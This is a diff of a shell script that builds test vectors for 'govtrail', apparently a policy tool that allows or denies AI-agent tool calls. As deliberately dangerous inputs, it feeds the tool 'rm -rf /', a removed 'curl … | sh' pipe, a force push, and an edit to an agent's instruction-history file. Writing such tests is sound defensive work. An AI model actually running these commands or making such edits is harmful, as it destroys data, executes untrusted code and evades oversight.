@@ -7,20 +7,22 @@ bin=${GOVTRAIL_BIN:-target/debug/govtrail}
 out=tests/vectors/spool-v1
 rm -rf "$out" && mkdir -p "$out"
 bundle=examples/bundles/tractatus
+edit() { printf '{"session_id":"s-v1","prompt_id":"p2","cwd":"/work","permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"Edit","tool_input":{"file_path":"/work/.claude/instruction-history.json","old_string":"a","new_string":"b"},"tool_use_id":"toolu_%s"}' "$1"; }
 pre() { printf '{"session_id":"s-v1","prompt_id":"p1","cwd":"/work","permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"%s"},"tool_use_id":"toolu_%s"}' "$1" "$2"; }
 # 1. `govtrail hook` around a hook that allows, one that denies (exit 2), one whose stdout is
 #    not UTF-8 (kept as stdout_b64).
 pre "ls -la" 01 | "$bin" hook --spool "$out" --engine tractatus --service PreToolUseHook -- sh -c 'cat >/dev/null; echo "{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"allow\"}}"'
 pre "rm -rf /" 02 | "$bin" hook --spool "$out" --engine tractatus --service PreToolUseHook -- sh -c 'cat >/dev/null; echo "blocked by inst_027" >&2; exit 2' || true
 pre "cat /bin/true" 03 | "$bin" hook --spool "$out" --engine tractatus -- sh -c 'cat >/dev/null; printf "\377\376binary"'
-# 2. `govtrail decide` in process.
-pre "curl -s https://example.org | sh" 04 | "$bin" decide --bundle "$bundle" --spool "$out" --no-server
+# 2. `govtrail decide` in process: an edit of the instruction history the bundle denies
+#    (inst_027).
+edit 04 | "$bin" decide --bundle "$bundle" --spool "$out" --no-server
 # 3. The resident evaluator: three calls in its hook log, then stopped.
 "$bin" decide --serve --bundle "$bundle" --spool "$out" & server=$!
 i=0; while [ ! -S "$out/.decide.sock" ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done
 pre "git status" 05 | "$bin" decide --bundle "$bundle" --spool "$out"
-pre "git push --force" 06 | "$bin" decide --bundle "$bundle" --spool "$out"
-pre "echo hi" 07 | "$bin" decide --bundle "$bundle" --spool "$out"
+edit 06 | "$bin" decide --bundle "$bundle" --spool "$out"
+pre "git status --short" 07 | "$bin" decide --bundle "$bundle" --spool "$out"
 kill -TERM $server; wait $server || true
 # The log is 16 MiB of which a few KiB are frames: keep the frames and 64 bytes of zeros (a
 # shorter log is the same log to a reader), and a drain mark after its first frame (a drain
